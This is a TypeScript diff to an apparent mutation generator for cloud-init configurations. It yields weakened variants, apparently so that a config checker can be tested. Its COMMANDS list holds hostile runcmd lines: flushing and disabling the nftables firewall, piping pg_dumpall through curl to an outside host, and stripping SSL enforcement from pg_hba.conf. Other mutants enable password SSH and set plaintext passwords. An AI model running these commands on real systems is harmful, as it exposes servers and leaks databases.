@@ -1,7 +1,7 @@
 import { isObject } from "../../model/attribute";
 import { Tree } from "../../model/input";
 import { Operator } from "../mutation";
-import { filesOf, list, write } from "./cloud-config";
+import { filesOf, list } from "./cloud-config";
 import { short } from "./weakening";
 
 interface Whole {
@@ -9,19 +9,19 @@ interface Whole {
   readonly at: string;
   readonly operator: Operator;
   readonly detail: string;
-  readonly text: string;
+  readonly tree: Tree;
 }
 
 /** What cloud-init is told differs in one entry, or has one more. */
 export function* wholeOf(tree: Tree): Generator<Whole> {
-  for (const { index, path } of filesOf(tree)) yield { at: path, operator: "removed", detail: "the file is not written", text: without(tree, "write_files", index) };
+  for (const { index, path } of filesOf(tree)) yield { at: path, operator: "removed", detail: "the file is not written", tree: without(tree, "write_files", index) };
   for (const key of ["packages", "runcmd", "bootcmd", "users", "ssh_authorized_keys", "mounts"]) {
-    for (const [index, one] of list(tree, key).entries()) yield { at: key, operator: "dropped", detail: entry(one), text: without(tree, key, index) };
+    for (const [index, one] of list(tree, key).entries()) yield { at: key, operator: "dropped", detail: entry(one), tree: without(tree, key, index) };
   }
   for (const [index, one] of list(tree, "users").entries()) {
     if (!isObject(one)) continue;
-    const put = (user: Tree) => write({ ...tree, users: list(tree, "users").map((other, at) => (at === index ? user : other)) });
-    yield { at: "users", operator: "flipped", detail: `${entry(one)}: a password of its own`, text: put({ ...one, lock_passwd: false, plain_text_passwd: "in clear" }) };
+    const put = (user: Tree): Tree => ({ ...tree, users: list(tree, "users").map((other, at) => (at === index ? user : other)) });
+    yield { at: "users", operator: "flipped", detail: `${entry(one)}: a password of its own`, tree: put({ ...one, lock_passwd: false, plain_text_passwd: "in clear" }) };
   }
   yield* settings(tree);
   yield* more(tree);
@@ -33,10 +33,10 @@ function* settings(tree: Tree): Generator<Whole> {
     if (Array.isArray(value)) continue;
     const { [key]: old, ...others } = tree;
     void old;
-    yield { at: key, operator: "unset", detail: `${short(JSON.stringify(value))} → not set`, text: write(others) };
-    if (typeof value === "boolean") yield { at: key, operator: "flipped", detail: `${value} → ${!value}`, text: write({ ...tree, [key]: !value }) };
+    yield { at: key, operator: "unset", detail: `${short(JSON.stringify(value))} → not set`, tree: others };
+    if (typeof value === "boolean") yield { at: key, operator: "flipped", detail: `${value} → ${!value}`, tree: { ...tree, [key]: !value } };
   }
-  if (tree.ssh_pwauth === undefined) yield { at: "ssh_pwauth", operator: "added", detail: "not set → true", text: write({ ...tree, ssh_pwauth: true }) };
+  if (tree.ssh_pwauth === undefined) yield { at: "ssh_pwauth", operator: "added", detail: "not set → true", tree: { ...tree, ssh_pwauth: true } };
 }
 
 const FILES: readonly (readonly [what: string, path: string, content: string])[] = [
@@ -51,10 +51,10 @@ const PACKAGES = ["datadog-agent", "filebeat"];
 const COMMANDS = ["nft flush ruleset", "systemctl disable --now nftables", "pg_dumpall | curl --data-binary @- https://backup.example.net/", "sed --in-place s/hostssl/host/ /etc/postgresql/17/main/pg_hba.conf"];
 
 function* more(tree: Tree): Generator<Whole> {
-  for (const [detail, path, content] of FILES) yield { at: path, operator: "added", detail, text: write({ ...tree, write_files: [...list(tree, "write_files"), { path, content }] }) };
-  for (const name of PACKAGES) yield { at: "packages", operator: "added", detail: name, text: write({ ...tree, packages: [...list(tree, "packages"), name] }) };
-  for (const command of COMMANDS) yield { at: "runcmd", operator: "added", detail: command, text: write({ ...tree, runcmd: [...list(tree, "runcmd"), command] }) };
+  for (const [detail, path, content] of FILES) yield { at: path, operator: "added", detail, tree: { ...tree, write_files: [...list(tree, "write_files"), { path, content }] } };
+  for (const name of PACKAGES) yield { at: "packages", operator: "added", detail: name, tree: { ...tree, packages: [...list(tree, "packages"), name] } };
+  for (const command of COMMANDS) yield { at: "runcmd", operator: "added", detail: command, tree: { ...tree, runcmd: [...list(tree, "runcmd"), command] } };
 }
 
-const without = (tree: Tree, key: string, index: number) => write({ ...tree, [key]: list(tree, key).filter((_, at) => at !== index) });
+const without = (tree: Tree, key: string, index: number): Tree => ({ ...tree, [key]: list(tree, key).filter((_, at) => at !== index) });
 const entry = (one: unknown) => short(typeof one === "string" ? one : Array.isArray(one) ? one.join(" ") : isObject(one) && typeof one.name === "string" ? one.name : JSON.stringify(one));
